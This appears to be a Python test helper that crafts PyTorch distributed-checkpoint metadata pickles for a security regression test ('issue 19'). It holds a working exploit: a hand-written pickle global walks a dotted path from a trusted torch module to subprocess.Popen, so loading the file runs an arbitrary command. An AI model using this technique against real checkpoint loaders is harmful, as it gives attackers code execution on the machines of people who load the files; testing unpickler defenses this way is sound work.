"""Crafted DCP `.metadata` files: a real Metadata whose pickle also calls something it should not.

The attack of issue 19: with pickle protocol >= 4 a global may be a dotted path, which pickle resolves
attribute by attribute from the named module. A module the old unpickler trusted
(`torch.distributed.checkpoint.metadata`) imports `torch`, and through `torch` a module that imports
`subprocess` is reachable, so `torch....subprocess.Popen` is a type that passed the old "is a type" check.
"""

from __future__ import annotations

import functools
import io
import pickle
import subprocess
from typing import Any

TRUSTED_MODULE = "torch.distributed.checkpoint.metadata"
# Found with a breadth-first search over module attributes (torch 2.13): torch._strobelight imports subprocess.
POPEN_PATH = "torch._strobelight.cli_function_profiler.subprocess.Popen"


def popen_path_resolves() -> bool:
    import importlib

    try:
        obj = functools.reduce(getattr, POPEN_PATH.split("."), importlib.import_module(TRUSTED_MODULE))
    except AttributeError:
        return False
    return obj is subprocess.Popen


class _Call:
    """Pickles as `func(*args)` where `func` is written as the global (module, dotted name)."""

    def __init__(self, module: str, name: str, target: Any, args: tuple) -> None:
        self.module, self.name, self.target, self.args = module, name, target, args

    def __reduce__(self) -> tuple:
        return (self.target, self.args)


class _DottedPickler(pickle._Pickler):  # the pure-Python pickler lets one global be written by hand
    def __init__(self, f: io.BytesIO, names: dict[int, tuple[str, str]]) -> None:
        super().__init__(f, protocol=4)
        self.names = names

    def save(self, obj: Any, save_persistent_id: bool = True) -> None:
        if id(obj) in self.names:
            module, dotted = self.names[id(obj)]
            super().save(module)
            super().save(dotted)
            self.write(pickle.STACK_GLOBAL)
            return
        super().save(obj, save_persistent_id)


def trusted_load(data: bytes) -> Any:
    return pickle.loads(data)  # test-only: the checkpoint was written by this test's own run


def with_call(metadata_bytes: bytes, module: str, dotted: str, target: Any, args: tuple) -> bytes:
    """The same Metadata, with `planner_data` replaced by a call of `target(*args)` named (module, dotted)."""
    md = trusted_load(metadata_bytes)
    md.planner_data = _Call(module, dotted, target, args)
    buf = io.BytesIO()
    _DottedPickler(buf, {id(target): (module, dotted)}).dump(md)
    return buf.getvalue()


def popen_metadata(metadata_bytes: bytes, argv: list[str]) -> bytes:
    """The issue-19 exploit: the Metadata runs `argv` through subprocess.Popen when unpickled."""
    return with_call(metadata_bytes, TRUSTED_MODULE, POPEN_PATH, subprocess.Popen, (argv,))
